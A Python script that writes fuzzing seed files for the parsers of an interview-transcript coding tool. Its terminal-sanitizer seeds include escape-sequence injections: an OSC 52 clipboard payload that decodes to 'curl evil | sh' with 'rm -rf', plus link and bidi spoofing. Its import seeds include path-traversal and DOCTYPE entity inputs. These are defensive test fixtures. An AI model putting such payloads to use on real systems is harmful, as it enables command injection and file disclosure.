#!/usr/bin/env python3
"""Writes the seed corpora in fuzz/corpus/<target>/ (run from anywhere; rewrites them).

Every seed is small (< 4 KB) and made by hand to reach one path of the code under test.
The sidecar seeds carry the paragraph fingerprints of the fixed document in
fuzz_targets/sidecar_parse.rs (TEXT), so attach() keeps, moves and detaches entries.
"""
import hashlib
import json
import os
import shutil

HERE = os.path.dirname(os.path.abspath(__file__))

# Must match TEXT in fuzz_targets/sidecar_parse.rs.
TEXT = ("Wawancara Informan A\r\n\r\nPeneliti: halo, apa kabar?\nInforman A: baik.\n\n"
        "[00:12:31] Informan A: patroli siber\n\ntiga\n\ntiga\n")


def fp(t):
    return hashlib.sha256(t.replace("\r\n", "\n").replace("\r", "\n").encode()).hexdigest()[:16]


P = ["Wawancara Informan A", "Peneliti: halo, apa kabar?", "Informan A: baik.",
     "[00:12:31] Informan A: patroli siber", "tiga", "tiga"]
FP = [fp(p) for p in P]


def entry(n, f, start=0, end=4, codes=(), memo=None):
    e = {"paragraph": n, "fingerprint": f, "start": start, "end": end}
    if codes:
        e["codes"] = list(codes)
    if memo is not None:
        e["memo"] = memo
    return e


def sidecar(paragraphs, detached=None, memo=None, **over):
    d = {"format": "tandai-sidecar", "version": 1, "document": "informan-a.txt",
         "document_fingerprint": "sha256:" + "e4836ca630179b413c8be828b285b4c3f3c8cb5b8923a45547c5e96ef8bb0d9f",
         "coder": "ana"}
    if memo is not None:
        d["memo"] = memo
    d["paragraphs"] = paragraphs
    if detached is not None:
        d["detached"] = detached
    d.update(over)
    return json.dumps(d, indent=2, ensure_ascii=False).encode() + b"\n"


def sidecar_seeds():
    valid = sidecar(
        [entry(1, FP[0], 0, 20, ["konteks"]),
         entry(2, FP[1], 24, 50, ["salam", "b.kode", "salam"], memo="memo \"kutipan\"\nbaris"),
         entry(4, FP[3], 70, 106, ["devito.involvement"])],
        detached=[entry(9, "0011223344556677", 300, 320, ["x"])],
        memo="catatan dokumen")
    s = {
        "valid.json": valid,
        # Entries out of order and on the wrong numbers: they move by fingerprint, the
        # "tiga" one is ambiguous (two paragraphs) and stays detached.
        "moved_and_ambiguous.json": sidecar(
            [entry(6, FP[2], codes=["b", "a"]), entry(1, FP[1], codes=["c"]),
             entry(3, FP[4], codes=["d"]), entry(2, "ffffffffffffffff", codes=["e"])],
            detached=[entry(0, FP[0], codes=["f"]), entry(5, FP[3], memo="m")]),
        "empty_paragraphs.json": sidecar([]),
        "docs_example.json": sidecar([entry(13, "78fc2c66c22262d4", 1235, 1472, ["devito.involvement"])]),
        "truncated_in_string.json": valid[:150],
        "truncated_in_entry.json": valid[:valid.index(b'"start"') + 10],
        "truncated_after_key.json": b'{"format": "tandai-sidecar", "vers',
        "empty_file.json": b"",
        "bom.json": b"\xEF\xBB\xBF" + sidecar([]),
        "nul_in_string.json": sidecar([]).replace(b"ana", b"a\x00a"),
        "nul_bytes.json": b"\x00\x00\x00\x00",
        "utf16le_json.json": "\ufeff".encode("utf-16-le") + sidecar([]).decode().encode("utf-16-le")[:600],
        "invalid_utf8_in_string.json": sidecar([]).replace(b"informan-a.txt", b"informan-\xe9.txt"),
        "duplicate_top_key.json": b'{"format":"tandai-sidecar","format":"tandai-sidecar","version":1}',
        "duplicate_entry_key.json": sidecar([entry(1, FP[0])]).replace(b'"start": 0', b'"start": 0, "start": 1'),
        "duplicate_paragraph.json": sidecar([entry(1, FP[0], codes=["a"]), entry(1, FP[0], codes=["b"])]),
        "deep_nesting.json": b'{"format":"tandai-sidecar","version":1,"memo":' + b"[" * 300 + b"]" * 300 + b"}",
        "deep_nesting_ignored_key.json": b'{"format":"tandai-sidecar","version":1,"x":' + b"[" * 300 + b"]" * 300 + b"}",
        "deep_objects.json": b'{"a":' * 200 + b"1" + b"}" * 200,
        "huge_numbers.json": sidecar([entry(18446744073709551615, FP[0], 0, 18446744073709551615)]),
        "number_overflow.json": b'{"format":"tandai-sidecar","version":4294967296,"paragraphs":[{"paragraph":1e400,"start":-1,"end":18446744073709551616}]}',
        "version_2.json": sidecar([], version=2),
        "version_0_and_string.json": b'{"format":"tandai-sidecar","version":"1","paragraphs":[]}',
        "unknown_field_and_bad_ranges.json": sidecar(
            [entry(0, FP[0]), entry(2, FP[1], start=9, end=3)], extra=True),
        "escapes.json": sidecar([entry(1, FP[0], codes=["CODE"], memo="\u0000 \U0001F600 \u202e")]).replace(
            b"CODE", b"\\u00e9\\ud83d\\ude00\\t"),
        "lone_surrogate.json": sidecar([entry(1, FP[0], codes=["CODE"])]).replace(b"CODE", b"\\ud800x"),
    }
    return s


def decode_seeds():
    turns = ("Peneliti: halo, apa kabar?\nInforman A: baik, terima kasih.\n"
             "[00:12:31] Informan A: saya kenal dia dari aplikasi\n(12:31.5) P: ya\n"
             "lanjut tanpa nama\n10:30 kami bertemu\nKata:lanjut tanpa spasi\n[99] Nama: x\n")
    blocks = ("Wawancara Informan A\n\nPeneliti: halo\nInforman A: iya\n\n"
              "Informan B: saya kenal dia\ndari aplikasi, lalu\nbertemu.\n\n\n  \t\nNama: \nbaris kedua\n")
    cjk = "受访者：你好\n\n\u9ad8\u6a4b: はい 😀\u200d👍 e\u0301\n\n\u00a0\u2028\u3000\n\nakhir"
    utf16 = "Peneliti: halo apa kabar\r\nInforman: baik 😀\r\n"
    s = {
        "blocks.txt": blocks.encode(),
        "line_per_turn.txt": turns.encode(),
        "utf8_bom.txt": b"\xEF\xBB\xBF" + turns.encode(),
        "double_bom.txt": b"\xEF\xBB\xBF\xEF\xBB\xBFteks\n\nlagi",
        "utf16le_bom.txt": b"\xFF\xFE" + utf16.encode("utf-16-le"),
        "utf16be_bom.txt": b"\xFE\xFF" + utf16.encode("utf-16-be"),
        "utf16le_no_bom.txt": utf16.encode("utf-16-le"),
        "utf16be_no_bom.txt": utf16.encode("utf-16-be"),
        "utf16_odd_length.txt": b"\xFF\xFE" + "ab".encode("utf-16-le") + b"c",
        "utf16_lone_surrogate.txt": b"\xFF\xFE\x00\xD8a\x00",
        "utf16_nul.txt": b"\xFE\xFF\x00a\x00\x00\x00b",
        "latin1.txt": "Peneliti: café, señor\nInforman: olé\n".encode("latin-1"),
        "crlf.txt": b"a\r\nb\r\n\r\nPeneliti: c\r\nInforman: d\r\n",
        "lone_cr.txt": b"Peneliti: satu\rInforman: dua\r\rtiga\r",
        "mixed_line_ends.txt": b"a\r\r\nb\n\rc\r\n\n\r\nd",
        "nul_bytes.txt": b"Peneliti: halo\n\x00\x00binary\x00",
        "nul_after_invalid.txt": b"ab\xff\x00cd",
        "cjk_emoji_spaces.txt": cjk.encode(),
        "whitespace_only.txt": "\n \t\n\u00a0\u2029\x0b\x0c\n".encode(),
        "empty.txt": b"",
        "speaker_edge.txt": ("  [00:00:01]   Nama Panjang Sekali Lima Kata: x\n"
                             "[1:2:3:4] A: b\n[00:12] B:\n(\u00e9t\u00e9) C: d\n"
                             "Ini kalimat yang sangat panjang sekali tanpa titik dua: bukan nama\n"
                             ": kosong\n[x] D: e\n").encode(),
    }
    return s


def sanitize_seeds():
    ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
    s = {
        "osc0_title.txt": (9, f"judul {ESC}]0;pwned title{BEL} sesudah"),
        "osc2_title_st.txt": (39, f"{ESC}]2;window{ST}teks biasa"),
        "osc8_link.txt": (19, f"klik {ESC}]8;;https://evil.example/{ST}di sini{ESC}]8;;{ST} ya"),
        "osc52_clipboard.txt": (79, f"{ESC}]52;c;Y3VybCBldmlsIHwgc2g={BEL}rm -rf"),
        "dcs.txt": (9, f"{ESC}P1$r0m{ST}{ESC}P$qm{ST}x"),
        "csi_queries.txt": (4, f"{ESC}[6n{ESC}[c{ESC}[>c{ESC}[21t{ESC}[?2026$p{ESC}[5n"),
        "csi_colours_clear.txt": (39, f"{ESC}[31;1mmerah{ESC}[0m{ESC}[2J{ESC}[H{ESC}c"),
        "c1_csi_osc.txt": (5, "\u009b6n \u009d0;t\u009c \u0090q\u009c \u0085nel"),
        "raw_c1_bytes.txt": (7, b"\x9b6n \x9d0;t\x07 \xc2"),
        "bidi_overrides.txt": (9, "admin\u202e\u2066txt.exe\u2069\u202c \u202a\u202b\u202d\u2067\u2068 \u061c\u200e\u200f"),
        "zero_width.txt": (3, "a\u200bb\u200cc\u200dd\u2060e\u2061\u2062\u2063\u2064\ufeff\u180e\u2028\u2029f"),
        "tabs.txt": (9, "a\tb\tc\t\td\n\tx\ty\r\n1234\t5"),
        "cjk.txt": (5, "漢字漢字漢 受访者：你好。 ひらがな カタカナ 한국어"),
        "emoji.txt": (4, "😀😀😀 👨\u200d👩\u200d👧 ❤\ufe0f 🇮🇩 e\u0301\u0301 x"),
        "wide_narrow_width1.txt": (0, "漢a\t\u200b😀b\u0301c"),
        "long_word_spaces.txt": (13, "satu dua tiga empat " + "x" * 40 + "   akhir   "),
        "controls_all.txt": (59, "".join(chr(c) for c in range(0, 0x20)) + "\x7f" + "".join(chr(c) for c in range(0x80, 0xa0))),
        "line_ends.txt": (11, "a\r\nb\rc\nd\n\n\r\r\n"),
        "empty_after_width.txt": (42, ""),
        # A line may be wider than the width only for one unbreakable character; here
        # a combining mark before it rides along (see fuzz/README.md, observations).
        "combining_then_wide_width1.txt": (0, "\u0301漢\u0301\u202e x"),
    }
    out = {}
    for name, (w, body) in s.items():
        out[name] = bytes([w]) + (body if isinstance(body, bytes) else body.encode())
    return out


REFI = os.path.join(HERE, "..", "tests", "fixtures", "refi")

# A minimal REFI-QDA project around some sources (for the qdpx_import seeds).
PROJECT = ('<?xml version="1.0" encoding="utf-8"?>\n'
           '<Project xmlns="urn:QDA-XML:project:1.0" name="p" origin="fuzz" '
           'creatingUserGUID="10000000-0000-4000-8000-000000000001">\n'
           '<Users><User guid="10000000-0000-4000-8000-000000000001" name="Ana Peneliti"/>'
           '<User guid="10000000-0000-4000-8000-000000000002" name="budi"/></Users>\n'
           '<CodeBook><Codes>'
           '<Code guid="30000000-0000-4000-8000-000000000001" name="Kontak" isCodable="true" color="#FF0000">'
           '<Description>Awal.\n\nUse when: salam.</Description>'
           '<Code guid="30000000-0000-4000-8000-000000000002" name="Sub" isCodable="true"/></Code>'
           '<Code guid="30000000-0000-4000-8000-000000000003" name="Kontak" isCodable="false"/>'
           '</Codes></CodeBook>\n'
           '<Sources>{sources}</Sources>\n'
           '<Notes><Note guid="40000000-0000-4000-8000-000000000001" creatingUser="10000000-0000-4000-8000-000000000002">'
           '<PlainTextContent>catatan</PlainTextContent></Note></Notes>\n'
           '</Project>\n')

SELECTION = ('<PlainTextSelection guid="50000000-0000-4000-8000-00000000000{n}" startPosition="{a}" endPosition="{b}" '
             'creatingUser="10000000-0000-4000-8000-00000000000{u}"><Description>memo {n}</Description>'
             '<Coding guid="60000000-0000-4000-8000-00000000000{n}" creatingUser="10000000-0000-4000-8000-00000000000{u}">'
             '<CodeRef targetGUID="30000000-0000-4000-8000-00000000000{c}"/></Coding>'
             '<NoteRef targetGUID="40000000-0000-4000-8000-000000000001"/></PlainTextSelection>')


def text_source(n, name, inline=None, path=None, selections=()):
    sels = "".join(SELECTION.format(n=i + 1, a=a, b=b, u=1 + i % 2, c=1 + i % 3)
                   for i, (a, b) in enumerate(selections))
    attrs = f'guid="20000000-0000-4000-8000-00000000000{n}" name="{name}"'
    if path:
        attrs += f' plainTextPath="{path}"'
    body = f"<PlainTextContent>{inline}</PlainTextContent>" if inline is not None else ""
    return f"<TextSource {attrs}>{body}{sels}</TextSource>"


def qdpx_seeds():
    import zipfile
    sep = b"\n@@@\n"
    text = "P: Halo, apa kabar?\r\n\r\nI: Baik \U0001F600 terima kasih.\n\nP: Lalu?\n"
    out = {}
    # Mode 2: the harness zips the parts.
    def parts(name, qde, *sources):
        out[name] = bytes([2]) + sep.join([qde.encode()] + [n.encode() + b"\n" + c for n, c in sources])
    parts("inline_text.bin", PROJECT.format(sources=text_source(1, "a.txt", inline="P: Halo\n\nI: Baik", selections=[(0, 8), (10, 17)])))
    parts("internal_source.bin", PROJECT.format(sources=text_source(1, "wawancara", path="internal://a.txt", selections=[(0, 19), (23, 40), (5, 60)])),
          ("a.txt", text.encode()))
    parts("feff_source.bin", PROJECT.format(sources=text_source(1, "bom", path="internal://b.txt", selections=[(0, 3)])),
          ("b.txt", b"\xef\xbb\xbf\xef\xbb\xbfP: satu\n\nQ: dua\n"))
    parts("utf16_source.bin", PROJECT.format(sources=text_source(1, "u16", path="internal://c.txt", selections=[(0, 4)])),
          ("c.txt", "\ufeffP: satu\n\nQ: dua\n".encode("utf-16-le")))
    parts("names_collide.bin", PROJECT.format(sources=text_source(1, "A.txt", inline="satu") + text_source(2, "a.txt", inline="dua")
                                               + text_source(3, "../etc/x", inline="tiga") + text_source(4, "con", inline="empat")))
    parts("doctype.bin", '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY a "aaaa">]><Project xmlns="urn:QDA-XML:project:1.0">&a;</Project>')
    parts("outside_path.bin", PROJECT.format(sources=text_source(1, "x", path="absolute:///etc/passwd") + text_source(2, "y", path="internal://../z")))
    for f in sorted(os.listdir(REFI)):
        path = os.path.join(REFI, f)
        data = open(path, "rb").read()
        if f.endswith(".qdpx"):
            out["raw_" + f] = bytes([0]) + data  # mode 0: the archive as is
            z = zipfile.ZipFile(path)
            qde = [n for n in z.namelist() if n.lower() == "project.qde"][0]
            xml = z.read(qde)
            if len(xml) < 40000:
                out["parts_" + f] = bytes([2]) + xml
        elif f.endswith(".qdc"):
            out["qdc_" + f] = bytes([1]) + data
    return out


W = ('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
     ' xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><w:body>')
WE = '</w:body></w:document>'


def r(text, bold=False):
    rpr = '<w:rPr><w:b/></w:rPr>' if bold else ''
    return f'<w:r>{rpr}<w:t xml:space="preserve">{text}</w:t></w:r>'


def p(*runs, ppr=''):
    return f'<w:p>{ppr}{"".join(runs)}</w:p>'


def tc(*paras):
    return f'<w:tc>{"".join(paras)}</w:tc>'


def docx_seeds():
    """document.xml bodies (the target wraps them into a zip) and one whole .docx."""
    import io
    import zipfile
    speaker_table = ('<w:tbl><w:tr>' + tc(p(r('Peneliti'))) + tc(p(r('Sejak kapan?'))) + '</w:tr><w:tr>'
                     + tc(p(r('Informan A'))) + tc(p(r('Sejak')), p(r('tahun lalu.'))) + '</w:tr></w:tbl>')
    nested = ('<w:tbl><w:tr>' + tc(p(r('luar')), '<w:tbl><w:tr>' + tc(p(r('a'))) + tc(p(r('b')))
              + '</w:tr></w:tbl>') + '</w:tr></w:tbl>')
    seeds = {
        "paragraphs.xml": W + p(r('Judul')) + p(r('Peneliti:', True), r(' halo')) + p(r('Informan A: iya'))
        + p(r('a'), '<w:r><w:tab/><w:t>b</w:t><w:br/><w:t>c</w:t><w:cr/><w:noBreakHyphen/></w:r>') + WE,
        "bold_after_colon.xml": W + p(r('Informan A (32, Kupang)', True), r(': ya')) + p(r('  ', True), r('x')) + WE,
        "speaker_table.xml": W + speaker_table + WE,
        "nested_table.xml": W + nested + WE,
        "tracked.xml": W + p(r('Saya '), '<w:ins w:id="1">' + r('sangat ') + '</w:ins>',
                             '<w:del w:id="2"><w:r><w:delText>tidak </w:delText></w:r></w:del>',
                             '<w:moveFrom w:id="3">' + r('x') + '</w:moveFrom>')
        + p(r('gabung '), ppr='<w:pPr><w:rPr><w:del w:id="4"/></w:rPr></w:pPr>') + p(r('dengan ini'))
        + '<w:tbl><w:tr><w:trPr><w:del w:id="5"/></w:trPr>' + tc(p(r('hapus'))) + '</w:tr></w:tbl>'
        + p('<w:r><w:rPr><w:rPrChange w:id="6"><w:rPr><w:b/></w:rPr></w:rPrChange></w:rPr><w:t>A: b</w:t></w:r>') + WE,
        "notes_comments_headers.xml": W + p(r('teks'), '<w:r><w:footnoteReference w:id="1"/></w:r>',
                                            '<w:r><w:commentReference w:id="0"/></w:r>')
        + '<w:sectPr><w:headerReference w:type="default" r:id="rId1" xmlns:r="r"/></w:sectPr>' + WE,
        "textbox.xml": W + p('<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><w:txbxContent>'
                             + p(r('kotak')) + '</w:txbxContent></w:drawing></mc:Choice><mc:Fallback><w:pict>'
                             + p(r('kotak')) + '</w:pict></mc:Fallback></mc:AlternateContent></w:r>', r('luar')) + WE,
        "entities.xml": W + p(r('a &amp; b &lt;c&gt; &#233; &#x1F600; &quot;')) + WE,
        "unknown_entity.xml": W + p(r('&nbsp;')) + WE,
        "doctype.xml": '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "ha">]>' + W + p(r('&a;')) + WE,
        "deep.xml": W + '<w:x>' * 300 + '</w:x>' * 300 + WE,
        "unclosed.xml": W + '<w:p><w:r><w:t>potong',
        "mismatched.xml": W + '<w:p><w:r></w:p></w:r>' + WE,
        "control_chars.xml": W + p(r('a&#1;b\u202e c\u0085')) + WE,
        "empty.xml": "",
        "not_xml.xml": "Peneliti: ini bukan XML",
    }
    out = {k: v.encode() for k, v in seeds.items()}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('[Content_Types].xml', '<Types/>')
        z.writestr('word/document.xml', W + p(r('Peneliti:', True), r(' zip')) + WE)
    out["whole.docx"] = buf.getvalue()
    out["truncated.docx"] = buf.getvalue()[:150]
    return out


O = ('<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
     ' xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"'
     ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
     ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
     ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
     ' xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0">'
     '<office:automatic-styles><style:style style:name="T1" style:family="text">'
     '<style:text-properties fo:font-weight="bold"/></style:style></office:automatic-styles>'
     '<office:body><office:text>')
OE = '</office:text></office:body></office:document-content>'


def odt_seeds():
    """content.xml bodies (the target wraps them into a zip)."""
    cell = lambda *ps: '<table:table-cell>' + ''.join(f'<text:p>{x}</text:p>' for x in ps) + '</table:table-cell>'
    seeds = {
        "paragraphs.xml": O + '<text:h>Judul</text:h><text:p><text:span text:style-name="T1">Peneliti:</text:span> halo</text:p>'
        '<text:p>a<text:s text:c="3"/>b<text:tab/>c<text:line-break/>d  \n  e</text:p>'
        '<text:list><text:list-item><text:p>Informan: butir</text:p></text:list-item></text:list>' + OE,
        "table.xml": O + '<table:table><table:table-row>' + cell('Peneliti') + cell('Kapan?') + '</table:table-row>'
        '<table:table-row>' + cell('Informan B') + cell('Dulu.', 'Sekali.') + '</table:table-row></table:table>' + OE,
        "tracked_notes.xml": O + '<text:tracked-changes><text:changed-region text:id="c1"><text:deletion>'
        '<text:p>hapus</text:p></text:deletion></text:changed-region><text:changed-region text:id="c2">'
        '<text:insertion/></text:changed-region></text:tracked-changes>'
        '<text:p>Saya <text:change text:change-id="c1"/><text:change-start text:change-id="c2"/>baru'
        '<text:change-end text:change-id="c2"/> ya<text:note><text:note-citation>1</text:note-citation>'
        '<text:note-body><text:p>catatan</text:p></text:note-body></text:note>'
        '<office:annotation><text:p>komentar</text:p></office:annotation></text:p>'
        '<text:p><draw:frame><draw:text-box><text:p>kotak</text:p></draw:text-box></draw:frame>luar</text:p>'
        '<text:table-of-content><text:index-body><text:p>Judul 1</text:p></text:index-body></text:table-of-content>' + OE,
        "spaces_many.xml": O + '<text:p>a<text:s text:c="999999999"/>b<text:s text:c="x"/></text:p>' + OE,
        "doctype.xml": '<!DOCTYPE x [<!ENTITY a "b">]>' + O + '<text:p>&a;</text:p>' + OE,
        "deep.xml": O + '<t:s>' * 300 + '</t:s>' * 300 + OE,
        "unclosed.xml": O + '<text:p>potong',
        "empty.xml": "",
    }
    return {k: v.encode() for k, v in seeds.items()}


def vtt_seeds():
    seeds = {
        "zoom.vtt": "WEBVTT\n\n1\n00:00:02.310 --> 00:00:05.120\nAna Peneliti: Selamat pagi.\n\n2\n"
        "00:00:05.500 --> 00:00:08.000\nAna Peneliti: Boleh saya rekam?\n\n3\n00:00:08.900 --> 00:00:10.250\nInforman C: Boleh.\n",
        "teams.vtt": "WEBVTT\n\nNOTE dibuat otomatis\n\nSTYLE\n::cue { color: yellow }\n\nREGION\nid:r1\n\n"
        "a1/12-0\n00:00:01.000 --> 00:00:03.500 align:start\n<v Ana Putri>Halo <i>semua</i> &amp; &#233; &lrm;</v>\n\n"
        "00:00:03.600 --> 00:00:06.000\n<v.loud Budi>Bisa.</v> <v Ana>Ya</v>\n<c.x>lagi</c> <00:00:05.000>kata\n",
        "whisper.vtt": "WEBVTT\n\n00:00.000 --> 00:04.000\n Jadi waktu itu.\n\n00:04.000 --> 00:07.500\n Belum.\n",
        "crlf_bom.vtt": "\ufeffWEBVTT - judul\r\n\r\n00:00:01.000 --> 00:00:02.000\r\nA: x\r\n",
        "broken_time.vtt": "WEBVTT\n\n00:00:0x.000 --> 00:00:02.000\nhalo\n",
        "no_header.vtt": "00:00:01.000 --> 00:00:02.000\nhalo\n",
        "no_timing.vtt": "WEBVTT\n\nid\nteks\n",
        "empty_cues.vtt": "WEBVTT\n\n00:00:01.000 --> 00:00:02.000\n\n00:00:02.000 --> 00:00:03.000\n<v >\n",
        "big_hours.vtt": "WEBVTT\n\n9999:59:59.999 --> 9999:59:59.999\nA: akhir\n",
    }
    out = {k: v.encode() for k, v in seeds.items()}
    out["utf16.vtt"] = "\ufeffWEBVTT\n\n00:01.000 --> 00:02.000\nhalo\n".encode("utf-16-le")
    out["latin1.vtt"] = b"WEBVTT\n\n00:01.000 --> 00:02.000\ncaf\xe9\n"
    return out


def srt_seeds():
    seeds = {
        "whisper.srt": "1\n00:00:00,000 --> 00:00:04,000\n Jadi waktu itu.\n\n2\n00:00:04,000 --> 00:00:07,500\n Belum.\n",
        "otter.srt": "1\n00:00:01,000 --> 00:00:03,000\nPeneliti: <i>Sudah siap?</i>\n\n2\n00:00:03,500 --> 00:00:05,000\n"
        "{\\an8}Informan D: Sudah.\nMari.\n\n3\n00:00:05,100 --> 00:00:06,000\n<font color=\"#fff\">Informan D:</font> Ya.\n",
        "no_numbers.srt": "00:00:01,000 --> 00:00:02,000\nsatu\n\n00:00:02,000 --> 00:00:03,000\ndua\n",
        "crlf.srt": "1\r\n00:00:01,000 --> 00:00:02,000\r\nA: x\r\n\r\n",
        "broken_arrow.srt": "1\n00:00:01,000 -> 00:00:02,000\nhalo\n",
        "broken_minutes.srt": "1\n00:00:01,000 --> 00:61:02,000\nhalo\n",
        "number_only.srt": "1\n",
        "tags_unclosed.srt": "1\n00:00:01,000 --> 00:00:02,000\n<i unclosed {\\b1 x < y & z\n",
    }
    out = {k: v.encode() for k, v in seeds.items()}
    out["nul.srt"] = b"1\n00:00:01,000 --> 00:00:02,000\na\x00b\n"
    return out


def write(target, seeds, limit=4096):
    d = os.path.join(HERE, "corpus", target)
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d)
    for name, data in seeds.items():
        assert len(data) < limit, (target, name, len(data))
        with open(os.path.join(d, name), "wb") as f:
            f.write(data)
    print(f"{target}: {len(seeds)} seeds")


if __name__ == "__main__":
    write("sidecar_parse", sidecar_seeds())
    write("decode_segment", decode_seeds())
    write("sanitize", sanitize_seeds())
    write("docx", docx_seeds())
    write("odt", odt_seeds())
    write("vtt", vtt_seeds())
    write("srt", srt_seeds())
    write("qdpx_import", qdpx_seeds(), limit=65536)
